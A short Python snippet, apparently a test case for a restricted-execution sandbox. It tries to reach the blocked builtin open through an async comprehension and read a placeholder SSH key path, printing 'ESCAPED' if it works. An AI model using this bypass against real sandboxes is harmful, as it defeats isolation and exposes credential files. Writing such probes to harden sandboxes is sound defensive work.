# A refused builtin in an asynchronous comprehension.
async def ag(): yield open
print("ESCAPED", [o async for o in ag()][0]("@@SSH@@").read())
